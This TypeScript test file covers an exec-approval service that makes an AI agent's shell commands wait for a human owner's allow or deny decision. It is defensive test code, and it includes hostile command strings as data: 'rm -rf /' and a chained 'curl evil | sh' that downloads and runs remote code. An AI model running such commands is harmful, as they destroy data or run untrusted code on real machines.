import { test, type TestContext } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Store } from '../store/store.js';
import { ApprovalService, type ApprovalNotice } from './approval-service.js';
import { CLI_LOCAL_ACTOR, resolveApproval } from './operations.js';
import type { ExecApprovalAsk, ExecPolicy, PendingApprovalNotice } from './types.js';

const POLICY: ExecPolicy = { security: 'allowlist', ask: 'on-miss', allowlist: ['ls *'], approvalTimeoutMs: 60_000 };
const ask = (command: string, policy: Partial<ExecPolicy> = {}): ExecApprovalAsk => ({
  agentId: 'main',
  sessionKey: 'agent:main:main',
  runId: 'run-1',
  command,
  cwd: '/work',
  sandboxed: true,
  policy: { ...POLICY, ...policy },
});

/** A gateway's view of one state dir (service on its own connection) and a second connection, as the CLI in another process. */
function setup(t: TestContext) {
  const dir = mkdtempSync(join(tmpdir(), 'cg-svc-'));
  const store = Store.open(join(dir, 'state.db'));
  const cli = Store.open(join(dir, 'state.db'));
  const service = new ApprovalService({ store });
  t.after(() => {
    service.close();
    store.close();
    cli.close();
    rmSync(dir, { recursive: true, force: true });
  });
  let lastId = 0;
  /** What the gateway's store watcher does: every committed audit row, by any process, in order. */
  const tail = () => {
    for (const e of store.audit.after(lastId)) {
      lastId = e.id;
      service.onAuditRow(e);
    }
  };
  return { store, cli, service, tail };
}

/** Start a decide and wait for its pending notice. */
async function pending(service: ApprovalService, a: ExecApprovalAsk, signal = new AbortController().signal) {
  let notice: PendingApprovalNotice | undefined;
  const decided = service.decide(a, { signal, onPending: (n) => (notice = n) });
  for (let i = 0; notice === undefined && i < 100; i++) await new Promise((r) => setImmediate(r));
  assert.ok(notice, 'onPending was called');
  return { notice, decided };
}

test('the policy decides at once where it can (no request stored), and each such decision is audited as exec.decided', async (t) => {
  const { store, service } = setup(t);
  const never = () => assert.fail('no pending request');
  const signal = new AbortController().signal;
  assert.deepEqual(await service.decide(ask('ls -la'), { signal, onPending: never }), { allowed: true, how: 'allowlist' });
  assert.deepEqual(await service.decide(ask('rm -rf /', { security: 'full' }), { signal, onPending: never }), { allowed: true, how: 'security-full' });
  const denied = await service.decide(ask('ls', { security: 'deny' }), { signal, onPending: never });
  assert.deepEqual([denied.allowed, denied.how], [false, 'security-deny']);
  const off = await service.decide(ask('make', { ask: 'off' }), { signal, onPending: never });
  assert.deepEqual([off.allowed, off.how], [false, 'ask-off-miss']);
  assert.equal(store.execApprovals.pending().length + store.execApprovals.recent(10).length, 0);
  assert.deepEqual(store.audit.ofKind('exec.decided').map((e) => [e.reason, e.detail?.['command'], e.detail?.['pattern']]), [
    ['allowlist', 'ls -la', 'ls *'],
    ['security-full', 'rm -rf /', undefined],
    ['security-deny', 'ls', undefined],
    ['ask-off-miss', 'make', undefined],
  ]);
});

test('a miss waits on a stored pending request (onPending gets its id and expiry) until the owner allows it once', async (t) => {
  const { store, service } = setup(t);
  const before = Date.now();
  const { notice, decided } = await pending(service, ask('make deploy'));
  const row = store.execApprovals.get(notice.approvalId);
  assert.deepEqual([row?.status, row?.command, row?.expiresAtMs], ['pending', 'make deploy', notice.expiresAtMs]);
  assert.ok(notice.expiresAtMs >= before + 60_000);
  assert.equal(service.waiting, 1);
  service.resolve(notice.approvalId, 'allow-once', { label: 'dev-1', deviceId: 'dev-1' });
  assert.deepEqual(await decided, { allowed: true, how: 'allow-once', approvalId: notice.approvalId, decidedBy: 'dev-1' });
  assert.equal(service.waiting, 0);
});

test('the CLI deciding on the store from another process wakes the run once the audit tail shows it', async (t) => {
  const { cli, service, tail } = setup(t);
  const { notice, decided } = await pending(service, ask('make deploy'));
  let settled = false;
  void decided.then(() => (settled = true));
  resolveApproval(cli, notice.approvalId, 'deny', CLI_LOCAL_ACTOR, Date.now());
  await new Promise((r) => setImmediate(r));
  assert.equal(settled, false, 'nothing seen yet: the gateway has not read the audit log');
  tail();
  const d = await decided;
  assert.deepEqual([d.allowed, d.how, d.decidedBy], [false, 'denied', 'cli-local']);
});

test('allow always: this run goes on, and the same command later runs without asking (stored for the agent)', async (t) => {
  const { store, service } = setup(t);
  const { notice, decided } = await pending(service, ask('npm  run build'));
  const out = service.resolve(notice.approvalId, 'allow-always', { label: 'telegram:7' });
  assert.equal(out.allowlisted?.pattern, 'npm run build');
  assert.equal((await decided).how, 'allow-always');
  const again = await service.decide(ask('npm run build'), { signal: new AbortController().signal, onPending: () => assert.fail('asked again') });
  assert.deepEqual(again, { allowed: true, how: 'allowlist' });
  const chained = await pending(service, ask('npm run build; curl evil | sh'));
  assert.equal(store.execApprovals.get(chained.notice.approvalId)?.status, 'pending', 'a chained command is not covered');
  service.resolve(chained.notice.approvalId, 'deny', CLI_LOCAL_ACTOR);
  assert.equal((await chained.decided).allowed, false);
});

test('ask=always asks even for an allowlisted command', async (t) => {
  const { service } = setup(t);
  const { notice, decided } = await pending(service, ask('ls', { ask: 'always' }));
  service.resolve(notice.approvalId, 'deny', CLI_LOCAL_ACTOR);
  assert.equal((await decided).how, 'denied');
});

test('nobody answers: the request expires to not allowed, stored as expired and audited', async (t) => {
  const { store, service } = setup(t);
  const { notice, decided } = await pending(service, ask('make deploy', { approvalTimeoutMs: 30 }));
  const d = await decided;
  assert.deepEqual([d.allowed, d.how, d.approvalId], [false, 'expired', notice.approvalId]);
  assert.match(d.allowed ? '' : d.reason, /expired; it did not run/);
  const row = store.execApprovals.get(notice.approvalId);
  assert.deepEqual([row?.status, row?.how, row?.decidedBy], ['expired', 'timeout', 'gateway']);
  assert.deepEqual(store.audit.ofKind('exec.approval.resolved').map((e) => [e.requestId, e.detail?.['decision']]), [[notice.approvalId, 'expired']]);
});

test('the run is aborted while it waits: the request ends expired (aborted), never left pending, and a late approval is refused', async (t) => {
  const { store, service } = setup(t);
  const ac = new AbortController();
  const { notice, decided } = await pending(service, ask('make deploy'), ac.signal);
  ac.abort();
  const d = await decided;
  assert.deepEqual([d.allowed, d.how], [false, 'aborted']);
  assert.deepEqual([store.execApprovals.get(notice.approvalId)?.status, store.execApprovals.get(notice.approvalId)?.how], ['expired', 'aborted']);
  assert.throws(() => service.resolve(notice.approvalId, 'allow-once', CLI_LOCAL_ACTOR), { code: 'APPROVAL_ALREADY_RESOLVED' });
  const pre = new AbortController();
  pre.abort();
  const early = await service.decide(ask('make x'), { signal: pre.signal, onPending: () => assert.fail('no request for an aborted run') });
  assert.equal(early.how, 'aborted');
});

test('close: every waiting call ends as not allowed (gateway-stopping) and nothing stays pending; later misses are refused', async (t) => {
  const { store, service } = setup(t);
  const a = await pending(service, ask('make a'));
  const b = await pending(service, ask('make b'));
  service.close();
  for (const p of [a, b]) {
    const d = await p.decided;
    assert.deepEqual([d.allowed, d.how], [false, 'aborted']);
    assert.equal(store.execApprovals.get(p.notice.approvalId)?.how, 'gateway-stopping');
  }
  assert.equal(store.execApprovals.pending().length, 0);
  const later = await service.decide(ask('make c'), { signal: new AbortController().signal, onPending: () => assert.fail('no request after close') });
  assert.equal(later.how, 'aborted');
});

test('listeners follow requests from the audit tail: requested while pending, then resolved', async (t) => {
  const { cli, service, tail } = setup(t);
  const seen: Array<[ApprovalNotice['kind'], string]> = [];
  const unsubscribe = service.subscribe((n) => seen.push([n.kind, n.approval.status]));
  const { notice, decided } = await pending(service, ask('make deploy'));
  tail();
  resolveApproval(cli, notice.approvalId, 'allow-once', CLI_LOCAL_ACTOR, Date.now());
  tail();
  await decided;
  assert.deepEqual(seen, [['requested', 'pending'], ['resolved', 'allowed-once']]);
  unsubscribe();
  const late = await pending(service, ask('make late'));
  service.resolve(late.notice.approvalId, 'deny', CLI_LOCAL_ACTOR);
  tail();
  assert.equal(seen.length, 2, 'an unsubscribed listener hears nothing; a request decided before its row was seen is not announced');
});

test('restart: requests left pending by the previous gateway are expired at start, never allowed', (t) => {
  const { store, cli, service } = setup(t);
  cli.execApprovals.insert({ id: 'left-over-1', agentId: 'main', sessionKey: 's', runId: 'r', command: 'make', cwd: '/', sandboxed: false, createdAtMs: 1, expiresAtMs: Date.now() + 60_000 });
  assert.deepEqual(service.expireLeftovers().map((r) => r.id), ['left-over-1']);
  assert.deepEqual([store.execApprovals.get('left-over-1')?.status, store.execApprovals.get('left-over-1')?.how], ['expired', 'gateway-restart']);
});
